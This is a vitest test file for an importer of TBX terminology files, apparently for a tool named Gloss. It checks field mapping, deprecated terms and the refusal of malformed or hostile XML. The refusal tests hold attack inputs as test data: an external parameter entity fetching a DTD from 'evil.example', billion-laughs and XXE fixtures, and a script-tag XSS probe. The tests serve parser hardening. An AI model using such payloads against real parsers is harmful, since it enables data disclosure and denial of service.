// TBX-Basic v2 and v3 (DCA and DCT styles), deprecated terms, and the attacks XML invites.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatIssue, readPackFile } from '../../lib/formats/import';
import type { ImportOptions } from '../../lib/formats/types';

const fixture = (name: string) => readFileSync(join(import.meta.dirname, '../fixtures/formats', name), 'utf8');
const read = (name: string, text = fixture(name), options: ImportOptions = {}) => readPackFile({ name, text }, options);
const errors = (name: string, text: string, options: ImportOptions = {}) => read(name, text, options).errors.map(formatIssue);

function tbx(body: string, root = '<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'): string {
  return `<?xml version="1.0"?>\n${root}\n<text><body>\n${body}\n</body></text>\n</tbx>\n`;
}

describe('TBX-Basic v2 (martif)', () => {
  const p = read('tbx-v2.tbx');

  it('makes one entry per termEntry, with the title and language of the file', () => {
    expect(p.format).toBe('tbx');
    expect(p.status).toBe('ok');
    expect(p.pack).toMatchObject({ title: 'Kazakh politics', language: 'en' });
    expect(p.pack?.entries.map((e) => e.id)).toEqual(['mazhilis', 'senate']);
  });

  it('maps the data categories to the fields they mean', () => {
    expect(p.pack?.entries[0]).toEqual({
      id: 'mazhilis',
      term: 'Mazhilis',
      short: 'The lower house of the Parliament of Kazakhstan.',
      variants: ['Majilis', 'Мажилис'],
      definition: 'The lower house of the Parliament of Kazakhstan.\n\nDeprecated term: Majilis.',
      context: 'The Mazhilis passed the bill on Tuesday.\n\nMembers serve five-year terms.',
      sources: [{ title: 'Wikipedia', url: 'https://en.wikipedia.org/wiki/Mazhilis' }],
      tags: ['politics'],
      related: ['senate'],
    });
  });

  it("takes the term in the pack's language, else the first", () => {
    expect(p.pack?.entries[1]).toMatchObject({ term: 'Senate', variants: ['Сенат'], short: 'Верхняя палата парламента.' });
    const ru = read('tbx-v2.tbx', fixture('tbx-v2.tbx'), { language: 'ru' });
    expect(ru.pack?.entries.map((e) => e.term)).toEqual(['Мажилис', 'Сенат']);
    expect(ru.pack?.entries.map((e) => e.id)).toEqual(['mazhilis', 'senat']);
  });
});

describe('TBX-Basic v3', () => {
  it('reads the DCA style, marking superseded terms as deprecated', () => {
    const p = read('tbx-v3-dca.tbx');
    expect(p.pack).toMatchObject({ title: 'Civics & law', language: 'en' });
    expect(p.pack?.entries).toEqual([
      {
        id: 'akim',
        term: 'akim',
        short: 'The head of a region or city, appointed — not elected.',
        variants: ['hakim', 'әкім'],
        definition: 'The head of a region or city, appointed — not elected.\n\nDeprecated term: hakim.',
        tags: ['government'],
      },
    ]);
  });

  it('reads the DCT style, where the element names are the categories', () => {
    const p = read('tbx-v3-dct.tbx');
    expect(p.pack?.entries).toEqual([
      {
        id: 'tenge',
        term: 'tenge',
        short: 'The currency of Kazakhstan since 1993.',
        variants: ['тенге'],
        definition: 'The currency of Kazakhstan since 1993.',
        context: 'Prices rose as the tenge fell.',
        tags: ['economy'],
      },
    ]);
  });

  it('never makes a deprecated term the headword while another exists', () => {
    const p = read(
      'd.tbx',
      tbx(`<conceptEntry id="x"><langSec xml:lang="en">
        <termSec><term>Old name</term><termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></termSec>
        <termSec><term>New name</term></termSec>
      </langSec></conceptEntry>`),
    );
    expect(p.pack?.entries[0]).toMatchObject({ term: 'New name', variants: ['Old name'], short: 'Also: Old name', definition: 'Deprecated term: Old name.' });
  });

  it('reads CDATA, character references and the predefined entities', () => {
    const p = read('c.tbx', tbx('<conceptEntry><langSec xml:lang="en"><descrip type="definition"><![CDATA[a <b> & c]]> &#x41;&lt;&apos;</descrip><termSec><term>T&amp;C</term></termSec></langSec></conceptEntry>'));
    expect(p.pack?.entries[0]).toMatchObject({ term: 'T&C', short: "a <b> & c A<'" });
  });

  it('skips a concept without a term and keeps the others', () => {
    const p = read('n.tbx', tbx('<conceptEntry><langSec xml:lang="en"><termSec><term>A</term></termSec><descrip type="definition">a</descrip></langSec></conceptEntry>\n<conceptEntry><langSec xml:lang="en"><descrip type="definition">none</descrip></langSec></conceptEntry>'));
    expect(p.status).toBe('partial');
    expect(p.errors.map(formatIssue)).toEqual(['n.tbx, line 5, entry 2, term: the concept has no term']);
  });
});

describe('TBX refusals', () => {
  it('refuses billion laughs without expanding anything', () => {
    const t0 = performance.now();
    expect(errors('billion-laughs.tbx', fixture('billion-laughs.tbx'))).toEqual([
      'billion-laughs.tbx, line 3: the file declares an entity (<!ENTITY …>); TBX files must not, and Gloss never expands them (this blocks entity-expansion and external-entity attacks)',
    ]);
    expect(performance.now() - t0).toBeLessThan(100);
  });

  it('refuses external entities without reading them', () => {
    expect(errors('xxe.tbx', fixture('external-entity.tbx'))).toEqual([
      'xxe.tbx, line 2: the file declares an entity (<!ENTITY …>); TBX files must not, and Gloss never expands them (this blocks entity-expansion and external-entity attacks)',
    ]);
    expect(errors('pe.tbx', '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><martif/>')).toHaveLength(1);
  });

  it('allows a DOCTYPE that only names a DTD, which is never fetched', () => {
    expect(read('tbx-v2.tbx').status).toBe('ok');
  });

  it('refuses undefined entities', () => {
    expect(errors('e.tbx', tbx('<conceptEntry><langSec xml:lang="en"><termSec><term>a&nbsp;b</term></termSec></langSec></conceptEntry>'))).toEqual([
      'e.tbx, line 4: the XML is not well-formed: undefined entity.',
    ]);
  });

  it('names the line of an unclosed tag', () => {
    expect(errors('u.tbx', '<martif type="TBX-Basic">\n<text>\n<body>\n<termEntry>\n</body>\n</text>\n</martif>')).toEqual([
      'u.tbx, line 5: the XML is not well-formed: unexpected close tag.',
    ]);
    expect(errors('t.tbx', '<martif type="TBX-Basic"><text><body><termEntry>')).toEqual(['t.tbx, line 1: the XML is not well-formed: unclosed tag: termEntry']);
  });

  it('bounds the nesting depth', () => {
    const deep = `<tbx type="TBX-Basic">${'<hi>'.repeat(100)}${'</hi>'.repeat(100)}</tbx>`;
    expect(errors('deep.tbx', deep)).toEqual(['deep.tbx, line 1: elements are nested more than 64 levels deep']);
  });

  it('bounds the number of entries', () => {
    const body = Array.from({ length: 4 }, (_, i) => `<conceptEntry><langSec xml:lang="en"><termSec><term>T${i}</term></termSec><descrip type="definition">d</descrip></langSec></conceptEntry>`).join('\n');
    expect(errors('many.tbx', tbx(body), { limits: { entries: 3 } })).toEqual(['many.tbx, line 7: the file has more than 3 entries; split it into smaller files']);
  });

  it('refuses broken Unicode, naming the line and the element', () => {
    expect(errors('u.tbx', tbx('<conceptEntry><langSec xml:lang="en"><termSec><term>a\ud800</term></termSec></langSec></conceptEntry>'))).toEqual([
      'u.tbx, line 4: the text of <term> contains broken Unicode (a lone UTF-16 surrogate); save the file as UTF-8 and try again',
    ]);
  });

  it('refuses XML that is not TBX', () => {
    expect(errors('x.xml', '<html><body><script>alert(1)</script></body></html>')).toEqual(['x.xml, line 1: this is not a TBX file: its root element is <html>, not <martif> or <tbx>']);
    expect(errors('e.tbx', '<martif type="TBX-Basic"><text><body/></text></martif>')).toEqual(['e.tbx: the file has no termEntry or conceptEntry']);
  });

  it('warns when the dialect is not TBX-Basic', () => {
    const p = read('m.tbx', tbx('<conceptEntry><langSec xml:lang="en"><termSec><term>A</term></termSec><descrip type="definition">a</descrip></langSec></conceptEntry>', '<tbx type="TBX-Min" xml:lang="en">'));
    expect(p.status).toBe('ok');
    expect(p.warnings.map(formatIssue)).toEqual(['m.tbx, line 2: the file is "TBX-Min", not TBX-Basic; only the TBX-Basic data categories are read']);
  });
});
